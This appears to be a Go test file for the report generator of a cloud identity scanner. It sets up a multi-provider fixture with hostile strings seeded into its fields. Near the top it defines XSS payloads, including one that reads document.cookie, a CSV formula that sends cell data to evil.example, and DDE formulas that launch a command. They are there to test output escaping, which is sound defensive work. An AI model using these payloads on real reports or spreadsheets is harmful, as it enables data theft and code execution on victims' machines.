package reports_test

import (
	"flag"
	"math/rand/v2"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/nhiscan/nhiscan/internal/nhi"
	"github.com/nhiscan/nhiscan/reports"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// Hostile strings seeded into collected fields. None may reach HTML
// unescaped, and none may start a CSV cell unneutralised.
const (
	xssScript = `<script>alert(1)</script>`
	xssImg    = `"><img src=x onerror=alert(1)>`
	xssURL    = `javascript:alert(document.cookie)`
	formula   = `=HYPERLINK("http://evil.example/?d="&A1,"click")`
	formulaP  = `+cmd|' /C calc'!A0`
	formulaAt = `@SUM(1+1)*cmd|' /C calc'!A0`
	formulaM  = `-2+3+cmd|' /C calc'!A0`
)

func ts(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t
}

func boolp(b bool) *bool { return &b }

// ruleMeta is a copy of a few built-in rules' metadata, so that these tests
// and their golden files do not change when the rule set's wording does
// (and reports keeps no dependency on rules, even in tests).
type ruleMeta struct {
	Family   string
	Severity nhi.Severity
	Title    string
	Controls []string
}

var testRules = map[string]ruleMeta{
	"privileged-grant":         {"over-privileged", "high", "Privileged grant not explicitly allowed", []string{"OWASP-NHI5:2025", "NIST-800-53:AC-6", "SOC2:CC6.3", "NIST-CSF-2.0:PR.AA-05"}},
	"never-used-credential":    {"dormant", "medium", "Credential never used since creation", []string{"OWASP-NHI7:2025", "NIST-800-53:AC-2(3)", "NIST-800-53:IA-5(f)", "SOC2:CC6.2"}},
	"multiple-active-keys":     {"long-lived", "low", "More than one active key", []string{"OWASP-NHI7:2025", "NIST-800-53:IA-5(f)"}},
	"unmapped-identity":        {"unmapped", "medium", "Identity matches no catalog role", []string{"OWASP-NHI1:2025", "NIST-800-53:AC-2(j)", "SOC2:CC6.3", "NIST-CSF-2.0:PR.AA-05", "ISO27001-2022:A.5.18"}},
	"orphaned-no-owner":        {"orphaned", "high", "No owner can be resolved", []string{"OWASP-NHI1:2025", "NIST-800-53:AC-2(3)", "SOC2:CC6.2", "ISO27001-2022:A.5.18", "NIST-CSF-2.0:PR.AA-01"}},
	"orphaned-owner-departed":  {"orphaned", "high", "Owner has left", []string{"OWASP-NHI1:2025", "NIST-800-53:AC-2(3)", "NIST-800-53:IA-5(i)", "SOC2:CC6.2", "ISO27001-2022:A.5.18", "NIST-CSF-2.0:PR.AA-01"}},
	"credential-expiring-soon": {"long-lived", "low", "Credential expiring soon", []string{"NIST-800-53:IA-5(f)"}},
	"credential-too-old":       {"long-lived", "medium", "Credential older than its maximum age", []string{"OWASP-NHI7:2025", "NIST-800-53:IA-5(f)", "SOC2:CC6.2", "NIST-CSF-2.0:PR.AA-01"}},
	"drift-credential-added":   {"drift", "low", "Credential added since the previous scan", []string{"NIST-800-53:IA-5(f)", "NIST-CSF-2.0:PR.AA-01"}},
	"drift-grant-removed":      {"drift", "info", "Grant removed since the previous scan", []string{"NIST-800-53:AC-6"}},
	"drift-owner-changed":      {"drift", "medium", "Owner changed since the previous scan", []string{"NIST-800-53:AC-2(j)", "SOC2:CC6.2"}},
}

// finding builds an open finding from a built-in rule.
func finding(t testing.TB, ruleID string, id nhi.Identity, cred, grant string, ev map[string]string) reports.FindingRow {
	t.Helper()
	r, ok := testRules[ruleID]
	if !ok {
		t.Fatalf("rule %s missing from testRules", ruleID)
	}
	return reports.FindingRow{
		Finding: nhi.Finding{
			Fingerprint: nhi.Fingerprint(ruleID, id.ID, cred, grant),
			RuleID:      ruleID, Family: r.Family, Severity: r.Severity, Title: r.Title,
			Provider: id.Provider, Scope: id.Scope, IdentityID: id.ID, IdentityName: id.Name, IdentityKind: id.Kind,
			CredentialID: cred, GrantID: grant, Evidence: nhi.EvidenceOf(ev), Remediation: "See the rule documentation.", Controls: r.Controls,
			Facets: []nhi.Facet{nhi.IdentitiesFacet(id.Kind)},
		},
		Status:    reports.StatusOpen,
		FirstSeen: ts("2026-02-01T08:00:00Z"),
		LastSeen:  ts("2026-03-01T10:06:00Z"),
	}
}

// fixture is a small estate over four providers with hostile strings in
// names, tags, owner hints, evidence and gap details.
func fixture(t testing.TB) reports.Input {
	t.Helper()
	cest := time.FixedZone("CEST", 2*3600)
	deployer := nhi.Identity{
		ID: "aws:AIDAEXAMPLE1", Provider: nhi.AWS, Kind: nhi.KindAWSUser, NativeID: "AIDAEXAMPLE1",
		Name: "ci-deployer", ARN: "arn:aws:iam::111111111111:user/ci/ci-deployer", Scope: "111111111111", Path: "/ci/",
		Created: ts("2024-01-10T09:00:00Z"), Status: nhi.StatusActive,
		Tags:       map[string]string{"owner": "alice@example.com"},
		OwnerHints: []nhi.OwnerHint{{Source: "tag", Value: "alice@example.com"}},
		Usage:      nhi.Usage{State: nhi.UsageUsed, LastUsed: ts("2026-02-28T23:10:00Z"), Source: "credential-report", AsOf: ts("2026-03-01T09:00:00Z")},
		Credentials: []nhi.Credential{
			{ID: "AKIAEXAMPLE2", Type: nhi.CredAWSAccessKey, Created: ts("2025-06-01T00:00:00Z"), Status: nhi.StatusActive,
				Usage: nhi.Usage{State: nhi.UsageNeverUsed, Source: "credential-report", AsOf: ts("2026-03-01T09:00:00Z")}},
			{ID: "AKIAEXAMPLE1", Type: nhi.CredAWSAccessKey, Created: ts("2024-01-10T09:05:00Z").In(cest), Status: nhi.StatusActive,
				Usage: nhi.Usage{State: nhi.UsageUsed, LastUsed: ts("2026-02-28T23:10:00Z").In(cest), Source: "credential-report", AsOf: ts("2026-03-01T09:00:00Z")}},
		},
		Grants: []nhi.Grant{
			{ID: "managed-policy:arn:aws:iam::aws:policy/ReadOnlyAccess@111111111111", Kind: "managed-policy",
				Entitlement: "arn:aws:iam::aws:policy/ReadOnlyAccess", Scope: "111111111111", Privilege: nhi.PrivRead},
			{ID: "managed-policy:arn:aws:iam::aws:policy/AdministratorAccess@111111111111", Kind: "managed-policy",
				Entitlement: "arn:aws:iam::aws:policy/AdministratorAccess", Scope: "111111111111", Privilege: nhi.PrivAdmin,
				Privileged: nhi.JudgedPrivileged, Reason: "administrator", Created: ts("2025-11-02T12:00:00Z")},
		},
	}
	role := nhi.Identity{
		ID: "aws:AROAEXAMPLE1", Provider: nhi.AWS, Kind: nhi.KindAWSRole, NativeID: "AROAEXAMPLE1",
		Name: formula, Scope: "222222222222", Created: ts("2023-05-05T05:05:05Z"), Status: nhi.StatusActive,
		Usage: nhi.Usage{State: nhi.UsageUnknown, Reason: "role-last-used denied"},
		Grants: []nhi.Grant{{ID: "inline-policy:deploy", Kind: "inline-policy", Entitlement: "s3:*", Scope: "*",
			Privilege: nhi.PrivWrite, Via: formulaM}},
	}
	sp := nhi.Identity{
		ID: "azure:00000000-0000-0000-0000-0000000000a1", Provider: nhi.Azure, Kind: nhi.KindEntraServicePrincipal,
		NativeID: "00000000-0000-0000-0000-0000000000a1", Name: xssScript, ARN: xssURL,
		Scope: "tenant-contoso", Status: nhi.StatusActive,
		Tags:       map[string]string{"team": xssImg},
		OwnerHints: []nhi.OwnerHint{{Source: "entra-owner", Value: xssURL, Active: boolp(false)}, {Source: "tag", Value: xssImg}},
		Usage:      nhi.Usage{State: nhi.UsageNotReported},
		Credentials: []nhi.Credential{{ID: "b0b0b0b0-0000-0000-0000-000000000001", Type: nhi.CredEntraClientSecret, Name: xssImg,
			Created: ts("2024-03-01T00:00:00Z"), Expires: ts("2026-03-20T00:00:00Z"), Status: nhi.StatusActive,
			Usage: nhi.Usage{State: nhi.UsageUnknown, Reason: "signin report needs Entra ID P1"}}},
		Grants: []nhi.Grant{{ID: "app-permission:Directory.ReadWrite.All", Kind: "app-permission",
			Entitlement: "Directory.ReadWrite.All", Scope: "tenant-contoso", Privilege: nhi.PrivAdmin, Privileged: nhi.JudgedPrivileged, Reason: "tier-0"}},
	}
	sa := nhi.Identity{
		ID: "gcp:104000000000000000001", Provider: nhi.GCP, Kind: nhi.KindGCPServiceAccount, NativeID: "104000000000000000001",
		Name: formulaP, Scope: "proj-a", Status: nhi.StatusDisabled,
		Usage: nhi.Usage{State: nhi.UsageNeverUsed, Source: "activity-analyzer", AsOf: ts("2026-02-28T00:00:00Z")},
		Credentials: []nhi.Credential{{ID: "0123abcd", Type: nhi.CredGCPUserManagedKey, Created: ts("2022-01-01T00:00:00Z"),
			Expires: time.Time{}, Status: nhi.StatusActive, Usage: nhi.Usage{State: nhi.UsageNeverUsed, Source: "activity-analyzer"}}},
		Grants: []nhi.Grant{{ID: "role-binding:roles/editor@projects/proj-a", Kind: "role-binding", Entitlement: "roles/editor",
			Scope: "projects/proj-a", Privilege: nhi.PrivWrite, Privileged: nhi.JudgedPrivileged, Reason: "basic role"}},
	}
	dk := nhi.Identity{
		ID: "github:deploy-key:99", Provider: nhi.GitHub, Kind: nhi.KindGitHubDeployKey, NativeID: "99",
		Name: formulaAt, ARN: xssURL, Scope: "acme", Path: "acme/web", Status: nhi.StatusActive,
		OwnerHints: []nhi.OwnerHint{{Source: "github-added-by", Value: "\tbob"}},
		Usage:      nhi.Usage{State: nhi.UsageUsed, LastUsed: ts("2026-01-15T00:00:00Z"), Source: "github-api", AsOf: ts("2026-03-01T10:01:00Z")},
		Credentials: []nhi.Credential{{ID: "99", Type: nhi.CredGitHubDeployKey, Name: "\rdeploy", Created: ts("2021-07-07T07:07:07Z"),
			Status: nhi.StatusActive, Usage: nhi.Usage{State: nhi.UsageUsed, LastUsed: ts("2026-01-15T00:00:00Z"), Source: "github-api"}}},
		Grants: []nhi.Grant{{ID: "repo-permission:acme/web", Kind: "repo-permission", Entitlement: "contents:write", Scope: "acme/web", Privilege: nhi.PrivWrite}},
	}
	inv := nhi.Inventory{
		Version:     nhi.SchemaVersion,
		CollectedAt: ts("2026-03-01T12:00:30+02:00"),
		Scopes: []nhi.Scope{
			{Provider: nhi.GitHub, ID: "acme", Name: "Acme"},
			{Provider: nhi.AWS, ID: "222222222222", Name: "dev"},
			{Provider: nhi.AWS, ID: "111111111111", Name: "prod"},
			{Provider: nhi.Azure, ID: "tenant-contoso", Name: xssScript},
			{Provider: nhi.GCP, ID: "proj-a"},
			{Provider: nhi.GCP, ID: "proj-b", Name: "empty project"},
		},
		Identities: []nhi.Identity{sp, dk, deployer, sa, role},
		Gaps: []nhi.Gap{
			{Provider: nhi.AWS, Scope: "222222222222", Source: "iam:GetRoleLastUsed", Kind: nhi.GapDenied,
				Permission: "iam:GetRole", Detail: "AccessDenied", UsageOnly: true},
			{Provider: nhi.GCP, Scope: "proj-b", Source: "iam.serviceAccounts.list", Kind: nhi.GapDenied,
				Permission: "iam.serviceAccounts.list", Detail: formula},
		},
	}
	own := map[string]nhi.Ownership{
		deployer.ID: {IdentityID: deployer.ID, RoleID: "ci-deploy", Owner: "alice@example.com", OwnerSource: "role",
			OwnerStatus: nhi.OwnerActive, TechnicalOwner: "platform@example.com", Team: "platform"},
		sp.ID:   {IdentityID: sp.ID, Owner: xssURL, OwnerSource: "entra-owner", OwnerStatus: nhi.OwnerDeparted},
		dk.ID:   {IdentityID: dk.ID, Owner: "\tbob", OwnerSource: "github-added-by", OwnerStatus: nhi.OwnerUnknown},
		role.ID: {IdentityID: role.ID, OwnerStatus: nhi.OwnerNone},
		// sa has no ownership entry: reported as unknown.
	}
	fs := []reports.FindingRow{
		finding(t, "privileged-grant", deployer, "", deployer.Grants[1].ID, map[string]string{"entitlement": "AdministratorAccess"}),
		finding(t, "never-used-credential", deployer, "AKIAEXAMPLE2", "", map[string]string{"created": "2025-06-01T00:00:00Z", "grace_days": "14"}),
		finding(t, "multiple-active-keys", deployer, "", "", map[string]string{"active_keys": "2"}),
		finding(t, "unmapped-identity", role, "", "", nil),
		finding(t, "orphaned-no-owner", role, "", "", nil),
		finding(t, "orphaned-owner-departed", sp, "", "", map[string]string{"owner": xssURL, "note": xssScript}),
		finding(t, "credential-expiring-soon", sp, "b0b0b0b0-0000-0000-0000-000000000001", "", map[string]string{"expires": "2026-03-20T00:00:00Z"}),
		finding(t, "privileged-grant", sp, "", sp.Grants[0].ID, nil),
		finding(t, "credential-too-old", sa, "0123abcd", "", map[string]string{"age_days": "1520", "max_days": "90"}),
		finding(t, "credential-too-old", dk, "99", "", map[string]string{"age_days": "1698"}),
		finding(t, "drift-credential-added", deployer, "AKIAEXAMPLE2", "", map[string]string{"previous_scan": "41"}),
		finding(t, "drift-grant-removed", dk, "", "repo-permission:acme/old", map[string]string{"entitlement": formula}),
		finding(t, "drift-owner-changed", sp, "", "", map[string]string{"before": xssImg, "after": xssURL}),
	}
	// A suppressed finding with an exception, and a resolved one.
	fs[4].Status = reports.StatusSuppressed
	fs[4].Suppressed = true
	fs[4].Exception = "EXC-7 " + formulaAt
	fs[4].ExceptionExpires = ts("2026-06-30T00:00:00Z")
	fs[9].Status = reports.StatusResolved
	fs[9].LastSeen = ts("2026-02-15T10:00:00Z")
	fs[9].ResolvedAt, fs[9].ResolvedScanID = ts("2026-03-01T10:00:00Z"), 42
	// A finding stored before facets, in account 222 whose role usage
	// could not be read: this scan kept it without re-evaluating it.
	fs[3].Facets = nil
	fs[3].NotReevaluated = &nhi.Hidden{Facet: nhi.FacetUsage, GapSource: "iam:GetRoleLastUsed", GapKind: nhi.GapDenied, Why: "iam:GetRoleLastUsed denied"}
	fs[2].Owner, fs[2].OwnerSource = "alice@example.com", "role"
	return reports.Input{
		Scan: reports.Scan{ID: 42, Started: ts("2026-03-01T10:00:00Z"), Ended: ts("2026-03-01T10:05:00Z"), Status: "partial",
			ToolVersion: "v0.1.0-test", CatalogHash: "c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00",
			EvaluatedAt: ts("2026-03-01T10:06:00Z")},
		Inventory: inv,
		Ownership: own,
		Findings:  fs,
		Previous:  &reports.Scan{ID: 41, Started: ts("2026-02-28T10:00:00Z"), Ended: ts("2026-02-28T10:04:00Z"), Status: "complete"},
		// The previous scan observed everything: only this scan's gaps
		// leave cells not evaluated.
		PreviousInventory: &nhi.Inventory{Version: nhi.SchemaVersion, CollectedAt: ts("2026-02-28T10:00:00Z"), Scopes: inv.Scopes, Identities: inv.Identities},
	}
}

// shuffled returns a copy of in with every list in a random order.
func shuffled(in reports.Input, seed uint64) reports.Input {
	r := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	out := in
	out.Inventory.Identities = append([]nhi.Identity(nil), in.Inventory.Identities...)
	for i := range out.Inventory.Identities {
		id := &out.Inventory.Identities[i]
		id.Credentials = append([]nhi.Credential(nil), id.Credentials...)
		id.Grants = append([]nhi.Grant(nil), id.Grants...)
		id.OwnerHints = append([]nhi.OwnerHint(nil), id.OwnerHints...)
		r.Shuffle(len(id.Credentials), func(i, j int) { id.Credentials[i], id.Credentials[j] = id.Credentials[j], id.Credentials[i] })
		r.Shuffle(len(id.Grants), func(i, j int) { id.Grants[i], id.Grants[j] = id.Grants[j], id.Grants[i] })
		r.Shuffle(len(id.OwnerHints), func(i, j int) { id.OwnerHints[i], id.OwnerHints[j] = id.OwnerHints[j], id.OwnerHints[i] })
	}
	ids := out.Inventory.Identities
	r.Shuffle(len(ids), func(i, j int) { ids[i], ids[j] = ids[j], ids[i] })
	out.Inventory.Scopes = append([]nhi.Scope(nil), in.Inventory.Scopes...)
	r.Shuffle(len(out.Inventory.Scopes), func(i, j int) {
		out.Inventory.Scopes[i], out.Inventory.Scopes[j] = out.Inventory.Scopes[j], out.Inventory.Scopes[i]
	})
	out.Inventory.Gaps = append([]nhi.Gap(nil), in.Inventory.Gaps...)
	r.Shuffle(len(out.Inventory.Gaps), func(i, j int) {
		out.Inventory.Gaps[i], out.Inventory.Gaps[j] = out.Inventory.Gaps[j], out.Inventory.Gaps[i]
	})
	out.Findings = append([]reports.FindingRow(nil), in.Findings...)
	r.Shuffle(len(out.Findings), func(i, j int) { out.Findings[i], out.Findings[j] = out.Findings[j], out.Findings[i] })
	return out
}

// golden compares got with testdata/name, or rewrites it under -update.
func golden(t testing.TB, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s differs from the golden file (-want +got; go test -update rewrites it):\n%s", name, diff)
	}
}
